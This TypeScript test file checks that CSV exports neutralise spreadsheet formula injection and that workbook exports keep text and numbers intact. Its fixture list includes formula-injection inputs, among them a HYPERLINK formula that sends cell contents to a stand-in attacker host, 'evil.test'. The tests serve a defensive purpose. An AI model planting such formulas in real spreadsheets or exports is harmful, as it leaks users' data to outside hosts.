import { buffer } from 'node:stream/consumers';
import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { readSheet } from 'read-excel-file/node';
import { csvRow } from '../../domain/csvText';
import { workbook, type WorkbookCell } from '../../server/export/workbook';

const FORMULA = /^[=+\-@\t\r]/;
const NAMES = [
  '=1+1',
  '+1-555-0100 Traders',
  '-2+3 Lumber',
  '@SUM(A1:A9)',
  '\tTabbed Ltd',
  '=HYPERLINK("http://evil.test/?"&A1,"open")',
  'Plain, Inc.',
  'two\r\nlines',
  ' blanks around ',
];

async function* rows(
  ...cells: readonly (readonly WorkbookCell[])[]
): AsyncGenerator<readonly WorkbookCell[]> {
  for (const row of cells) yield await Promise.resolve(row);
}

describe('exports', () => {
  it('H18 no cell of a CSV file is a formula, and without the apostrophe each is what it was', () => {
    const text = NAMES.map((name) => csvRow([name, '7.00'])).join('');
    const read = parse(text);
    const cells = read.map((row) => String(row[0]));
    expect(cells.filter((cell) => FORMULA.test(cell))).toEqual([]);
    expect(cells.map((cell) => cell.replace(/^'(?=[=+\-@\t\r])/, ''))).toEqual(NAMES);
  });

  it('H66 amounts keep their decimals and their sign', () => {
    expect(csvRow(['12.50', '7.00', '-5.00'])).toBe('12.50,7.00,-5.00\r\n');
  });

  it('a workbook holds texts as texts and numbers as numbers, whatever they look like', async () => {
    const bytes = await buffer(
      Readable.from(
        workbook(
          'Names & "more"',
          ['Name', 'Amount'],
          rows(...NAMES.map((name) => [name, { number: '12.50' }] as const)),
        ),
      ),
    );
    const read = await readSheet(bytes, 1, { trim: false });
    expect(read.slice(1).map((row) => row[0])).toEqual(NAMES);
    expect(read[1]?.[1]).toBe(12.5);
  });
});
